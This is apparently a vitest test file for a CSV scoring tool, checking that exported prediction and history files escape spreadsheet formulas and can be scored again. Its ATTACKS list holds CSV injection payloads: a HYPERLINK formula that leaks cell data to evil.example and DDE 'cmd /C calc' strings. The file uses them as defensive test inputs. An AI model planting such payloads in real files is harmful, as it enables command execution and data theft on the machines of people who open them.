// Scored CSVs that are safe to open in a spreadsheet and can be scored again (issue 14,
// failure 4), and the CSV writer's formula rule on its own.
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { mapHeader } from '../../src/batch/map-header';
import { scoreCsv } from '../../src/batch/score-csv';
import { csvField, csvLine, isFormula, predictionColumns } from '../../src/csv/write-csv';
import type { FormulaPolicy } from '../../src/csv/write-csv';
import { historyCsv } from '../../src/history/history-csv';
import type { HistoryEntry } from '../../src/history/history-entry';
import type { ClassificationManifest } from '../../src/manifest/manifest-types';
import { type DrugModel, fileOf, loadDrugModel } from '../fixtures/models';

let model: DrugModel;
let manifest: ClassificationManifest;

beforeAll(async () => {
  model = await loadDrugModel();
  manifest = model.manifest as ClassificationManifest;
});

function score(text: string, formulas?: FormulaPolicy) {
  return scoreCsv(fileOf(text), manifest, model.runColumns, { formulas });
}

/** A CSV text parsed back as a spreadsheet would split it (no formula handling). */
function cells(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text.replace(/\r\n$/, ''), {
    delimiter: ',',
    newline: '\r\n',
  });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1',
  '-',
  '+',
];

describe('formula cells', () => {
  it.each(ATTACKS)('escapes %j with a leading quote, inside quotes', (value) => {
    expect(isFormula(value)).toBe(true);
    const field = csvField(value);
    expect(field.startsWith(`"'`)).toBe(true);
    expect(cells(`${field}\r\n`)).toEqual([[`'${value}`]]);
  });

  it.each(['-5', '+1.5', '-1e-7', '-.5', ' -5', '-5 ', '2024-01-01', 'a=b', "'=already", ''])(
    'leaves %j alone: a plain number or text that does not start a formula',
    (value) => {
      expect(isFormula(value)).toBe(false);
      expect(cells(`x,${csvField(value)}\r\n`)).toEqual([['x', value]]);
    },
  );

  it('writes formulas as they came with `keep`', () => {
    expect(csvLine(['=1+1', '+cmd', 'a,b'], 'keep')).toBe('=1+1,+cmd,"a,b"\r\n');
  });
});

describe('the scored file is safe to open', () => {
  const header = 'id,Age,Sex,BP,Cholesterol,Na_to_K,comment';

  it('escapes formula cells in passed-through columns, invalid inputs and the header', async () => {
    const text =
      `${header},=evil_header\n` +
      ATTACKS.map((a, i) => `${i + 1},47,F,HIGH,HIGH,14,${csvField(a, 'keep')},x\n`).join('') +
      `99,"=1+1",F,"@BP",HIGH,14,ok,x\n`;
    const result = await score(text);
    const out = cells(await result.output.text());
    expect(out[0]).toEqual([...header.split(','), "'=evil_header", ...predictionColumns(manifest)]);
    expect(out.slice(1, -1).map((r) => r[6])).toEqual(ATTACKS.map((a) => `'${a}`));
    // A refused value is written back escaped too; its error message starts with the input name.
    const last = out.at(-1)!;
    expect(last.slice(0, 4)).toEqual(['99', "'=1+1", 'F', "'@BP"]);
    expect(last.at(-1)).toBe(
      'Age: "=1+1" is not a number; BP: "@BP" is not one of HIGH, LOW, NORMAL',
    );
    // No cell of the file starts a formula.
    expect(out.flat().filter(isFormula)).toEqual([]);
    // The preview shows the values as they were: it is not a spreadsheet.
    expect(result.preview[0]![6]).toBe(ATTACKS[0]);
  });

  it('keeps every cell as it came when asked to', async () => {
    const result = await score(`${header}\n1,47,F,HIGH,HIGH,14,=1+1\n`, 'keep');
    expect(cells(await result.output.text())[1]![6]).toBe('=1+1');
  });

  it('escapes the history export the same way, unless asked not to', () => {
    const entry: HistoryEntry = {
      id: 1,
      time: '2026-11-21T10:14:05.120Z',
      modelId: manifest.id,
      modelVersion: '=1+1',
      inputs: { Age: 47, Sex: 'F', BP: 'HIGH', Cholesterol: 'HIGH', Na_to_K: 14 },
      warnings: [],
      task: 'classification',
      label: 'drugA',
      probabilities: Object.fromEntries(manifest.outputs.classes.map((c) => [c, 0.2])),
    };
    expect(cells(historyCsv(manifest, [entry]))[1]![6]).toBe("'=1+1");
    expect(cells(historyCsv(manifest, [entry], 'keep'))[1]![6]).toBe('=1+1');
  });
});

describe('a scored file can be scored again', () => {
  const text = 'id,Age,Sex,BP,Cholesterol,Na_to_K\n1,47,F,HIGH,HIGH,14\n2,abc,M,LOW,HIGH,20\n';

  it('replaces the prediction columns instead of adding them twice, and says so', async () => {
    const first = await score(text);
    const once = await first.output.text();
    const second = await score(once);
    const twice = await second.output.text();
    expect(twice).toBe(once);
    expect(first.summary.replacedColumns).toEqual([]);
    expect(second.summary.replacedColumns).toEqual(predictionColumns(manifest));
    // And again: a third time is no different (it was refused as "duplicate columns" before).
    const third = await score(twice);
    expect(await third.output.text()).toBe(once);
  });

  it('replaces output columns wherever they are, and those of an older double scoring', async () => {
    const doubled =
      'error,id,Age,Sex,predicted_label,BP,Cholesterol,Na_to_K,error\n' +
      'old,1,47,F,drugX,HIGH,HIGH,14,older\n';
    const result = await score(doubled);
    const out = cells(await result.output.text());
    expect(out[0]).toEqual([
      'id',
      'Age',
      'Sex',
      'BP',
      'Cholesterol',
      'Na_to_K',
      ...predictionColumns(manifest),
    ]);
    expect(out[1]!.slice(0, 7)).toEqual(['1', '47', 'F', 'HIGH', 'HIGH', '14', 'drugA']);
    expect(result.summary.replacedColumns).toEqual(['error', 'predicted_label']);
  });

  it('never replaces a column the model reads, even one named like an output', () => {
    const inputs = [{ ...manifest.inputs[0]!, name: 'error' }];
    const map = mapHeader(['error', 'x'], inputs, ['predicted_label', 'error']);
    expect(map.replaced).toEqual([]);
    expect(map.inputColumns).toEqual([0]);
  });
});
